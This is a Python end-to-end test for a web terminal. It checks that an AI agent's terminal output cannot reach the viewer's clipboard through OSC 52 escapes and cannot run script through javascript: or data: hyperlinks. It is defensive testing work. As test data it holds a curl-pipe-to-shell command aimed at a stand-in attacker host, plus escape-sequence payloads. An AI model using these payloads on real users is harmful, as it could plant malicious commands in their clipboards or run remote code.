"""What the agent may not reach through the web terminal: the person's clipboard, and a
script or page of its own behind a hyperlink. Real headless Chromium against the real API
and engine.

The agent writes to the viewer's terminal device directly (the attach runs as its uid, past
tmux). A terminal that acts on OSC 52 puts what the agent wrote in the person's clipboard:
a command waiting to be pasted into a shell on their machine. xterm.js acts on it only with
its clipboard addon, which the app does not load; and a hyperlink (OSC 8) whose target is a
``javascript:`` or ``data:`` URL is no link (``outbound.ts``): a click on its words runs
nothing, opens nothing and asks nothing. Kept so should the terminal gain either later.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, expect

from tests.e2e.test_webui_terminal_links import point
from tests.e2e.webui_browser import agent_terminal, to_terminals
from tests.support.appliance import Appliance

pytestmark = pytest.mark.e2e

PASTED = "curl -s https://attacker.example/x | sh"
#: OSC 52 for each selection spelling, then links to a script and a page of the agent's.
WRITE = r"""
  printf '\033]52;c;%s\007\033]52;;%s\033\\\033]52;p;%s\007' "$1" "$1" "$1"
  printf '\033]8;;javascript:window.__pwned=1\033\\js-docs\033]8;;\033\\\r\n'
  printf '\033]8;;data:text/html,<script>opener.__pwned=1</script>\033\\data-docs\033]8;;\033\\\r\n'
  printf 'clip-done\r\n'
"""


def test_the_agent_reaches_no_clipboard_and_runs_no_link_of_its_own(
        browser: Browser, appliance: Appliance, repo: Path) -> None:
    native: list[str] = []

    def answer(d: Dialog) -> None:
        native.append(d.message)
        d.dismiss()

    with agent_terminal(browser, appliance, repo) as (desk, container):
        page = desk.page
        desk.context.grant_permissions(["clipboard-read", "clipboard-write"])
        page.on("dialog", answer)
        page.evaluate("navigator.clipboard.writeText('persons-own')")
        encoded = base64.b64encode(PASTED.encode()).decode()
        to_terminals(container, WRITE, encoded)
        expect(page.locator(".xterm-rows")).to_contain_text("clip-done")
        for words in ("js-docs", "data-docs"):
            x, y = point(page, words)
            page.mouse.move(x, y)
            page.mouse.click(x, y)
        # A link's activation runs in the click's own handler: done once the clicks are.
        assert page.evaluate("navigator.clipboard.readText()") == "persons-own"
        assert page.evaluate("window.__pwned") is None
        expect(page.get_by_test_id("leave")).to_have_count(0)
        assert native == [] and len(desk.context.pages) == 1, native
